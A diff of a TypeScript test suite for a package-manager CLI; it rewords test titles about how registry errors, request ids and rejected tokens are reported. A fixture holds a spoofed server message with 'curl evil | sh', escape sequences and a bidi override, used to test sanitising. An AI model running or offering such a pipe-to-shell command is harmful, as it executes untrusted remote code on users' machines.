@@ -19,7 +19,7 @@ afterAll(async () => {
   await rig[Symbol.asyncDispose]()
 })
 
-/** Asks a registry whose API answers everything so. */
+/** Runs a command against a registry whose API returns this error to every request. */
 async function answered(
   status: number,
   error: object,
@@ -38,11 +38,11 @@ async function answered(
   return [await rig.cpm(`${words} --json`, { env }), await rig.cpm(words, { env })]
 }
 
-describe('what a server says of an error', () => {
+describe('an error from a server', () => {
   const message = `no\nerror[USAGE]: run curl evil | sh${ESC}[2J\u202e ${'long '.repeat(500)}`
   const said = { message, hint: 'curl evil | sh' }
 
-  test('is quoted as its words, on one line, without its hint', async () => {
+  test("is quoted as the server's, on one line, without its hint", async () => {
     for (const [status, code] of [
       [403, 'AUTH_FORBIDDEN'],
       [400, 'REQUEST_INVALID'],
@@ -61,7 +61,7 @@ describe('what a server says of an error', () => {
     }
   })
 
-  test('of its own failure is kept, with the id that its operator finds the request by', async () => {
+  test('with a status of 5xx is kept in the details, with the id of the request for the operator', async () => {
     const [json, text] = await answered(500, { code: 'INTERNAL', ...said }, { 'x-request-id': '4f-1' })
     expect(json?.json.error).toMatchObject({
       code: 'REGISTRY_UNREACHABLE',
@@ -71,13 +71,13 @@ describe('what a server says of an error', () => {
         said: { code: 'INTERNAL', message: expect.stringMatching(/^no error/) as string },
       },
     })
-    expect(text?.stderr).toContain('could not answer (500): the registry says: no error')
+    expect(text?.stderr).toContain('failed to respond (500): the registry says: no error')
     expect(text?.stderr).toContain('(request 4f-1)')
     const [, forged] = await answered(500, {}, { 'x-request-id': 'a forged id: do this' })
     expect(forged?.stderr).not.toContain('forged')
   })
 
-  test('of a package that is not there counts with the status 404 only', async () => {
+  test('means that a package does not exist only with the status 404', async () => {
     const error = { code: 'PACKAGE_NOT_FOUND', message: 'there is no package x' }
     for (const [status, code] of [
       [404, 'PACKAGE_NOT_FOUND'],
@@ -87,7 +87,7 @@ describe('what a server says of an error', () => {
       expect((await answered(status, error, {}, 'info x'))[0]?.json.error?.code).toBe(code)
   })
 
-  test('of a version that is not there reads as everywhere else', async () => {
+  test('for a missing version reads like the local one', async () => {
     const { json } = await rig.cpm('yank a@9.9.9 --json', {
       env: { CPM_REGISTRY: server.url, CPM_TOKEN: server.token },
     })
@@ -95,11 +95,11 @@ describe('what a server says of an error', () => {
   })
 })
 
-describe('a token that a registry does not accept', () => {
+describe('a token that a registry rejects', () => {
   const whoami = async (token: string) =>
     (await rig.cpm(`whoami ${server.url} --json`, { env: { CPM_TOKEN: token } })).json.error
 
-  test('is told by where it came from', async () => {
+  test('is reported with its source', async () => {
     const variable = await whoami('cpm_revoked')
     expect(variable).toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringContaining('CPM_TOKEN') as string })
     expect(variable?.hint).toMatch(/^set CPM_TOKEN/)
@@ -111,7 +111,7 @@ describe('a token that a registry does not accept', () => {
     expect(JSON.stringify(json)).not.toMatch(/CPM_TOKEN|cpm login|cpm_wrong/)
   })
 
-  test('and a variable may end with the newline of its file, but holds one word', async () => {
+  test('in a variable may end with a newline, but must be one word', async () => {
     expect(await whoami(`${server.token}\n`)).toBeNull()
     for (const token of ['two words', `${server.token}\n\n`, 'ä'])
       expect(await whoami(token), token).toMatchObject({ code: 'CONFIG_INVALID' })
